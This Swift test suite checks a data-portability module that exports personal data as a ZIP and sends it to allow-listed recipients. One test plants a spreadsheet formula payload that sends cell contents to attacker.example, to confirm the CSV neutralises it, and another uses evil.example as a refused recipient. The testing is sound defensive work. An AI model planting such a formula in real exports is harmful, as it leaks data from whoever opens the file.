import Foundation
import PortabilityRight
import RightsKernel
import RightsOutbound
import RightsStore
import RightsTesting
import Testing

@Suite("5.6 Rights of copy and portability")
struct PortabilityRightTests {
    func rights(port: Int = 9, attempts: Int = 2) -> String {
        """
        portability:
          output: exports
          attempts: \(attempts)
          retry_after_minutes: 30
          rounds: 2
          allow_loopback_http: true
          recipients:
            other-cloud: { url: "http://127.0.0.1:\(port)/import", organisation: Other Cloud Ltd, secret_env: \(RecipientServer.secretEnvironment) }
        """
    }

    func harness(on driver: LedgerDriver, _ rights: String) async throws -> RightsTestHarness {
        try await RightsTestHarness.sample(on: driver, subjects: 30, modules: [PortabilityRight.self], rights: rights)
    }

    func intake(_ parameters: [String: String], subject: Int = 10) -> RequestIntake {
        RequestIntake(
            right: "portability", subject: SubjectIdentity(kind: "email", value: SampleBusinessDatabase.email(subject)),
            parameters: parameters)
    }

    /// Code, then the operator's check that strong verification requires.
    func runStrong(_ harness: RightsTestHarness, _ intake: RequestIntake) async throws -> RightRequest {
        let verified = try await harness.run(intake)
        #expect(verified.state == .awaitingReview, "strong verification: an operator confirms identity")
        return try await harness.pipeline.approve(verified.id, operator: "id-desk")
    }

    @Test(arguments: LedgerDriver.allCases) func theModuleConforms(on driver: LedgerDriver) async throws {
        let failures = try await RightModuleConformance(
            module: PortabilityRight.self, rights: rights(), parameters: ["mode": "copy"], on: driver
        ).run()
        #expect(failures.isEmpty, "\(failures)")
    }

    /// "You have the right to copy your personal information that we have collected."
    @Test(arguments: LedgerDriver.allCases) func aCopyIsOneZipWithJSONAndACSVPerTable(on driver: LedgerDriver) async throws {
        let harness = try await harness(on: driver, rights())
        let request = try await runStrong(harness, intake(["mode": "copy"]))
        #expect(request.state == .completed)
        let archive = try #require(request.outcome?.references["archive"])
        let listing = try await unzipListing(archive)
        #expect(listing.contains("data.json"))
        #expect(listing.contains("business.accounts.csv"))
        #expect(listing.contains("business.consents.csv"))
        let csv = try await unzipRead(archive, "business.accounts.csv")
        #expect(csv.hasPrefix("row,category,column,value\r\n"))
        let folder = URL(fileURLWithPath: archive).deletingLastPathComponent()
        #expect(
            try FileManager.default.contentsOfDirectory(atPath: folder.path) == ["personal-information.zip"],
            "the staging files are gone once zipped")
        #expect(csv.contains("user.contact.email,email,\(SampleBusinessDatabase.email(10))"))
        #expect(!csv.contains(SampleBusinessDatabase.email(11)))
    }

    /// A value a spreadsheet would run as a formula is neutralised in the copy's CSV (OWASP).
    @Test func aFormulaInTheDataIsNeutralisedInTheCSV() async throws {
        let harness = try await harness(on: .sqlite, rights())
        let formula = "=HYPERLINK(\"http://attacker.example/?\"&A1,\"open\")"
        let update = Process()
        update.executableURL = URL(fileURLWithPath: "/usr/bin/env")
        update.arguments = [
            "sqlite3", harness.directory.file("business.sqlite"),
            "UPDATE accounts SET display_name = '\(formula.replacingOccurrences(of: "'", with: "''"))' WHERE email = '\(SampleBusinessDatabase.email(10))'",
        ]
        try await ProcessLaunches.run(update)
        update.waitUntilExit()
        #expect(update.terminationStatus == 0)
        let request = try await runStrong(harness, intake(["mode": "copy"]))
        let archive = try #require(request.outcome?.references["archive"])
        let csv = try await unzipRead(archive, "business.accounts.csv")
        #expect(
            csv.contains(",user.account.nickname,display_name,\"'=HYPERLINK(\"\"http://attacker.example/?\"\"&A1,\"\"open\"\")\"\r\n"),
            "\(csv)")
        #expect(!csv.contains(",=HYPERLINK"))
        #expect(csv.contains("\"'\(SampleBusinessDatabase.phone(10))\""), "a leading + is neutralised too")
        #expect(try await unzipRead(archive, "data.json").contains("=HYPERLINK"), "the JSON keeps the value exactly")
    }

    /// "… transfer your personal information to other entities designated by you … we will conduct necessary verification of your identity"
    @Test(arguments: LedgerDriver.allCases) func aTransferReachesTheAllowedRecipientAfterRetries(on driver: LedgerDriver) async throws {
        let server = try await RecipientServer(failures: 1)
        let harness = try await harness(on: driver, rights(port: server.port, attempts: 3))
        let request = try await runStrong(harness, intake(["mode": "transfer", "recipient": "other-cloud"]))
        #expect(request.state == .completed)
        #expect(server.attempts == 2, "one failure, then delivered")
        #expect(server.refusals.isEmpty, "each attempt signed with the recipient's secret: \(server.refusals)")
        #expect(server.receivedHeaders.first?["webhook-id"] == "rightskit-transfer-\(request.id)")
        let body = try #require(server.received.first)
        let text = String(decoding: body, as: UTF8.self)
        #expect(text.contains(SampleBusinessDatabase.userID(10)))
        #expect(!text.contains(SampleBusinessDatabase.userID(11)))
        let attempts = try await harness.store.entries(for: request.id).filter { $0.event.action.rawValue.hasPrefix("transfer.") }.map(
            \.event.action)
        #expect(attempts == ["transfer.failed", "transfer.delivered"])
        #expect(request.outcome?.references["recipient"] == "other-cloud")
    }

    /// A recipient whose signing secret is not in the environment gets nothing: no transfer
    /// leaves unsigned.
    @Test func withoutTheRecipientsSecretNothingIsSent() async throws {
        let server = try await RecipientServer(failures: 0)
        let rights = self.rights(port: server.port).replacingOccurrences(
            of: "secret_env: \(RecipientServer.secretEnvironment)", with: "secret_env: RIGHTSKIT_TEST_UNSET_RECIPIENT_SECRET")
        let harness = try await harness(on: .sqlite, rights)
        let request = try await runStrong(harness, intake(["mode": "transfer", "recipient": "other-cloud"]))
        #expect(request.state != .completed)
        #expect(server.attempts == 0 && server.refusals.isEmpty, "nothing reached the recipient")
        let failed = try await harness.store.entries(for: request.id).filter { $0.event.action.rawValue == "transfer.failed" }
        #expect(failed.first?.event.details["reason"]?.contains("RIGHTSKIT_TEST_UNSET_RECIPIENT_SECRET") == true)
    }

    @Test(arguments: LedgerDriver.allCases) func anUnreachableRecipientIsRetriedLaterThenRefused(on driver: LedgerDriver) async throws {
        let server = try await RecipientServer(failures: 100)
        let harness = try await harness(on: driver, rights(port: server.port, attempts: 2))
        let waiting = try await runStrong(harness, intake(["mode": "transfer", "recipient": "other-cloud"]))
        #expect(waiting.state == .inProgress)
        #expect(waiting.resumeAt == harness.clock.now.addingTimeInterval(1_800))
        harness.clock.advance(by: 1_801)
        let finished = try await harness.pipeline.resumeInterrupted().finished
        #expect(finished.first?.state == .denied)
        #expect(finished.first?.outcome?.ground == .transferFailed)
        #expect(server.attempts == 4, "two rounds of two attempts")
    }

    @Test(arguments: LedgerDriver.allCases) func anUnlistedRecipientIsRefusedAtIntake(on driver: LedgerDriver) async throws {
        let harness = try await harness(on: driver, rights())
        await #expect(throws: PipelineError.self) {
            try await harness.pipeline.submit(intake(["mode": "transfer", "recipient": "https://evil.example"]))
        }
        await #expect(throws: PipelineError.self) { try await harness.pipeline.submit(intake(["mode": "transfer"])) }
    }

    @Test(arguments: LedgerDriver.allCases) func aTransferNeedsStrongVerification(on driver: LedgerDriver) async throws {
        let server = try await RecipientServer(failures: 0)
        let harness = try await harness(on: driver, rights(port: server.port) + "\n  verification: code")
        let request = try await harness.run(intake(["mode": "transfer", "recipient": "other-cloud"]))
        #expect(request.state == .denied)
        #expect(request.outcome?.ground == .identityNotVerified)
        #expect(server.attempts == 0)
        let folder = URL(fileURLWithPath: harness.directory.file("exports")).appendingPathComponent(request.id.rawValue)
        #expect(!FileManager.default.fileExists(atPath: folder.path), "nothing is written before the level is checked")
    }

    /// A listed recipient that answers 307 elsewhere: the data reaches the listed address only.
    @Test(arguments: LedgerDriver.allCases) func aRedirectIsNeverFollowed(on driver: LedgerDriver) async throws {
        let elsewhere = try await RecipientServer(failures: 0)
        let listed = try await RecipientServer(failures: 0, redirectTo: elsewhere.port)
        let harness = try await harness(
            on: driver, rights(port: listed.port, attempts: 1).replacingOccurrences(of: "rounds: 2", with: "rounds: 1"))
        let request = try await runStrong(harness, intake(["mode": "transfer", "recipient": "other-cloud"]))
        #expect(listed.attempts == 1)
        #expect(elsewhere.attempts == 0, "the other address received nothing")
        #expect(request.state == .denied)
        #expect(request.outcome?.ground == .transferFailed)
        let statuses = try await harness.store.entries(for: request.id).filter { $0.event.action == "transfer.failed" }.map {
            $0.event.details["status"]
        }
        #expect(statuses == ["307"])
        let folder = URL(
            fileURLWithPath: request.outcome?.references["archive"] ?? harness.directory.file("exports/\(request.id.rawValue)/x")
        ).deletingLastPathComponent()
        #expect(
            !FileManager.default.fileExists(atPath: PortabilityRight.payload(in: folder).path),
            "the payload is removed once the transfer is decided")
    }

    /// The outbound client a module gets is limited to the origins it lists: another port of
    /// the same host is refused before any connection is made.
    @Test func theOutboundClientRefusesAnOriginTheModuleDoesNotList() async throws {
        let listed = try await RecipientServer(failures: 0)
        let unlisted = try await RecipientServer(failures: 0)
        var list = OutboundAllowList(allowsLoopbackHTTP: true)
        let listedURL = try #require(URL(string: "http://127.0.0.1:\(listed.port)/import"))
        try list.allow(listedURL)
        let http = AsyncHTTPOutbound().allowing(list)
        let unlistedURL = try #require(URL(string: "http://127.0.0.1:\(unlisted.port)/import"))
        await #expect(throws: OutboundRefusal.notAllowed(origin: "http://127.0.0.1:\(unlisted.port)")) {
            try await http.post(Data("{}".utf8), to: unlistedURL, headers: [:], timeout: .seconds(5))
        }
        #expect(unlisted.attempts == 0)
        let signed = try WebhookSigner(secret: RecipientServer.secret).headers(id: "probe", body: Data("{}".utf8), at: Date())
        #expect(try await http.post(Data("{}".utf8), to: listedURL, headers: signed, timeout: .seconds(5)) == 201)
        #expect(listed.attempts == 1)
        var strict = OutboundAllowList()
        #expect(throws: OutboundRefusal.plainHTTP) { try strict.allow(listedURL) }
    }

    @Test(arguments: LedgerDriver.allCases) func aPlainHTTPRecipientIsRefusedAtLoad(on driver: LedgerDriver) async throws {
        let plain = rights().replacingOccurrences(of: "http://127.0.0.1:9/import", with: "http://import.other-cloud.example/v1")
        await #expect(throws: ConfigErrors.self) { try await harness(on: driver, plain) }
        let loopbackWithoutFlag = rights().replacingOccurrences(of: "allow_loopback_http: true", with: "")
        do {
            _ = try await harness(on: driver, loopbackWithoutFlag)
            Issue.record("loopback http without the test flag was accepted")
        } catch let errors as ConfigErrors {
            #expect("\(errors)".contains("only https is allowed"))
        }
    }

    /// Reads one file of a ZIP archive with Python's zipfile.
    func unzipRead(_ archive: String, _ name: String) async throws -> String {
        let process = Process()
        process.executableURL = URL(fileURLWithPath: "/usr/bin/env")
        process.arguments = [
            "python3", "-c", "import sys, zipfile; sys.stdout.write(zipfile.ZipFile(sys.argv[1]).read(sys.argv[2]).decode())", archive,
            name,
        ]
        let pipe = Pipe()
        process.standardOutput = pipe
        try await ProcessLaunches.run(process)
        let data = pipe.fileHandleForReading.readDataToEndOfFile()
        process.waitUntilExit()
        return String(decoding: data, as: UTF8.self)
    }

    /// Lists the names in a ZIP archive with Python's zipfile, an independent reader.
    func unzipListing(_ archive: String) async throws -> [String] {
        let process = Process()
        process.executableURL = URL(fileURLWithPath: "/usr/bin/env")
        process.arguments = [
            "python3", "-c",
            "import sys, zipfile; z = zipfile.ZipFile(sys.argv[1]); assert z.testzip() is None; print('\\n'.join(z.namelist()))", archive,
        ]
        let pipe = Pipe()
        process.standardOutput = pipe
        try await ProcessLaunches.run(process)
        let data = pipe.fileHandleForReading.readDataToEndOfFile()
        process.waitUntilExit()
        #expect(process.terminationStatus == 0, "the archive is a valid ZIP")
        return String(decoding: data, as: UTF8.self).split(separator: "\n").map(String.init)
    }
}
